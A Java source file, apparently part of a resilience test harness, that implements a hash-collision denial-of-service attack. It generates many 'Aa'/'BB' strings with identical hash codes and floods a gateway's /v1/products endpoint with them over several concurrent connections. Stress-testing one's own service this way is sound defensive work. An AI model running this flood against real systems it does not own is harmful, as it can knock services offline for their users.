package dev.tidegate.hostile;

import java.net.URI;
import java.time.Duration;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Names documents and values whose strings have equal hash codes. */
final class EqualHashes implements Attack {
  private static final int CONNECTIONS = 4;
  private static final int BITS = 14;

  @Override
  public String name() {
    return "equal hashes";
  }

  @Override
  public void run(Random random, URI gateway, Duration time) throws InterruptedException {
    int offset = random.nextInt(1 << BITS);
    boolean filters = random.nextBoolean();
    Swarm.run(
        gateway,
        CONNECTIONS,
        time,
        (socket, number) -> {
          for (int request = 0; request < 20; request++) {
            String names = names(offset + 1_000 * (20 * number + request), 1_000);
            String target = filters ? "/v1/products?brand=" : "/v1/products?ids=";
            Requests.send(socket, Requests.get(target + names));
            socket.getInputStream().read();
            socket.getInputStream().skip(socket.getInputStream().available());
          }
        });
  }

  private static String names(int from, int count) {
    return IntStream.range(from, from + count)
        .mapToObj(EqualHashes::name)
        .collect(Collectors.joining(","));
  }

  /** "Aa" and "BB" have the same hash code, and so have all sequences of them of one length. */
  private static String name(int number) {
    StringBuilder name = new StringBuilder();
    for (int bit = 0; bit < 2 * BITS; bit++) {
      name.append((number >> (bit % BITS) & 1) == 0 ? "Aa" : "BB");
    }
    return name.toString();
  }
}
